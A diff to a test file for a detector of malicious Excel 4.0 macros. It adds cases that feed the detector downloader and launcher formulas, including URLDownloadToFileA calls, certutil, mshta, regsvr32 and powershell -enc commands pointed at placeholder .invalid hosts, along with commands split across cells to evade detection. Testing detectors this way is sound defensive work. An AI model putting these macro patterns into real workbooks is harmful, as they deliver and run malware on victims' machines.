@@ -56,9 +56,19 @@ def test_a_hidden_sheet_that_starts_and_runs_something(format):  # noqa: A002
     ("formulas", "rule"),
     [
         (["=EXEC(A9)"], "executes"),
-        (['=EXECUTE(A1,"[x]")'], "executes"),
-        (['=CALL("lib","Function","JJ",0)'], "calls-library"),
-        (['=REGISTER("lib","Function","JJ","called",,1,9)'], "calls-library"),
+        (['=INITIATE(B1,"topic")'], "executes"),
+        (['=INITIATE("Letters","System")', '=EXECUTE(A1,"[x]")'], "talks-to-program"),
+        (['=INITIATE("cmd","/c emotriage-inert")'], "runs-interpreter"),
+        (['=EXEC("C:\\WINDOWS\\NOTEPAD.EXE read.me")'], "starts-accessory"),
+        (['=EXEC("notepad.exe \\\\server.invalid\\share")'], "executes"),
+        (['=SEND.KEYS("^{ESC}mshta http://host.invalid/a~")'], "runs-interpreter"),
+        (['=CALL(B1,B2,"JJ",0)'], "calls-library"),
+        (['=CALL("urlmon","URLDownloadToFileA","JJCCJJ",0)'], "calls-library"),
+        (['=CALL("..\\file.ocx","Start","J")'], "calls-library"),
+        (['=CALL("lib","Function","JJ",0)'], "names-library"),
+        (['=CALL(GET.WORKSPACE(23)&"\\LIB.DLL","Function","JJ",0)'], "names-library"),
+        (['=REGISTER("lib","Function","JJ","called",,1,9)'], "names-library"),
+        (['=OPEN("http://host.invalid/a.xls")'], "opens-remote"),
         (['=CALL("urlmon","URLDown"&"loadToFileA","JJCCJJ",0,A1,A2,0,0)'], "downloads"),
         (['=EXEC("certutil -urlcache -f http://host.invalid/a b")'], "downloads"),
         (['=CALL(B1,B2,"JJ","http://host.invalid/a")'], "downloads"),
@@ -76,7 +86,7 @@ def test_a_hidden_sheet_that_starts_and_runs_something(format):  # noqa: A002
         (["=WHILE(A9<20)", '=SET.NAME("x",A8&CHAR(A9-3))', "=NEXT()", "=FORMULA(A8,B1)"], "writes-formulas"),
         (['=FOR("i",1,9)', "=FORMULA(MID(B1,A9,1),B2)", "=NEXT()"], "writes-formulas"),
         (['=FORMULA("=EXEC(""emotriage-inert"")",B1)'], "executes"),
-        (['=FORMULA("=FORMULA(""=CALL(1,2)"",A1)",B1)'], "calls-library"),
+        (['=FORMULA("=FORMULA(""=CALL(A1,A2)"",A1)",B1)'], "calls-library"),
         (["=" + "&".join(f"CHAR({code})" for code in range(65, 75))], "character-chains"),
         (["=" + "&".join(f"B{row}" for row in range(1, 17))], "character-chains"),
         (["=CHAR(65)&CHAR(66)"] * 75, "character-chains"),
@@ -87,6 +97,27 @@ def test_a_hidden_sheet_that_starts_and_runs_something(format):  # noqa: A002
 @pytest.mark.parametrize("format", FORMATS)
 def test_what_a_sheet_does(formulas, rule, format):  # noqa: A002
     assert rule in findings(book(*formulas, format=format))
+
+
+@pytest.mark.parametrize(
+    ("formulas", "rule"),
+    [
+        (['=CALL("ur"&"lmon","URLDown"&"loadToFileA","JJCCJJ",0)'], "split-command"),
+        (["=EXEC(B1&B2)"], "split-command"),
+        (["=FORMULA(C1&C2,D1)", "=GOTO(D1)"], "writes-formulas"),
+        (["=FORMULA.FILL(C1&C2,D1)"], "writes-formulas"),
+        (["=EVALUATE(C3&C2)"], "downloads"),
+        (['=SET.NAME("n",B1)', "=EXEC(n&B2)"], "split-command"),
+        (["=SET.VALUE(D1,B1&B2)", "=EXEC(D1)"], "runs-interpreter"),
+        (['=EXEC(INDEX(B1:B2,1)&OFFSET(B1,1,0)&INDIRECT("B9"))'], "runs-interpreter"),
+    ],
+)
+@pytest.mark.parametrize("format", FORMATS)
+def test_what_a_sheet_does_with_its_constants(formulas, rule, format):  # noqa: A002
+    cells = {f"A{row}": formula for row, formula in enumerate(formulas, 1)}
+    cells |= {"B1": "msh", "B2": "ta http://host.invalid/a"}
+    cells |= {"C1": "'=EX", "C2": 'EC("regsvr32 /i:http://host.invalid/a")', "C3": "EX"}
+    assert rule in findings(workbook(format, xlm={"Macro1": cells}, names={"n": '""'}))
 
 
 @pytest.mark.parametrize(
@@ -101,6 +132,10 @@ def test_what_a_sheet_does(formulas, rule, format):  # noqa: A002
         ['=ALERT("a"&CHAR(13)&"b"&CHAR(13)&"c")'] * 40,
         ['=FOR("i",1,9)', '=FORMULA("=B"&B9,B1)', "=NEXT()", '=ALERT("a"&CHAR(13)&"b")'],
         ['=FOPEN("list.txt",2)', "=FREADLN(A1)"],
+        ['=FORMULA("Sales of "&B1&" in "&B2,C1)'] * 8,
+        ['=FORMULA(LEFT("Monday",3)&" total",C1)'] * 8,
+        ["=IF(GET.WORKSPACE(13)<600,A9)", "=IF(GET.WORKSPACE(1)=B1,A9)", "=APP.MAXIMIZE()"],
+        ['=FOR("i",1,9)', '=SET.VALUE(B1,B1&MID("a-b-c",A9,1))', "=NEXT()"],
     ],
 )
 def test_what_honest_sheets_do(formulas):
@@ -135,6 +170,30 @@ def test_the_command_can_be_a_name():
     data = book("=EXEC(command)", names={"command": '"powershell -enc AAAA"', "Auto_Open": "Macro1!$A$1"})
     found = findings(data)
     assert found["runs-interpreter"].evidence[0].where == "command"
+
+
+@pytest.mark.parametrize("format", FORMATS)
+def test_texts_are_fetched_from_worksheets_that_the_macros_refer_to(format):  # noqa: A002
+    cells = {"B2": "'=CALL(", "C3": '"urlmon","URLDown', "D4": 'loadToFileA","JJCCBB",0,"http://host.invalid/a"'}
+    data = workbook(
+        format,
+        sheets={"Sheet1": {}, "It's": cells, "Other": {"A1": "powershell -enc AAAA"}},
+        xlm={"Macro1": {"A1": "=FORMULA('It''s'!B2&'It''s'!C3&'It''s'!D4&\")\",A9)"}},
+    )
+    assert {"downloads", "calls-library", "split-command", "writes-formulas"} <= set(findings(data))
+    assert ("url", "http://host.invalid/a", "decoded") in indicators(data)
+    assert "runs-interpreter" not in findings(data)
+
+
+def test_a_name_said_openly_somewhere_is_not_split():
+    found = findings(book('=EXEC("msh"&"ta emotriage-inert.invalid")', '=EXEC("mshta emotriage-inert.invalid")'))
+    assert "split-command" not in found
+
+
+@pytest.mark.parametrize("format", FORMATS)
+def test_a_registered_function_is_called_by_its_number(format):  # noqa: A002
+    found = findings(book('=REGISTER("LIB.DLL","Function","JJ")', "=CALL(A1,5)", format=format))
+    assert set(found) == {"macrosheet", "names-library"}
 
 
 def test_results_that_were_stored_are_read_too():
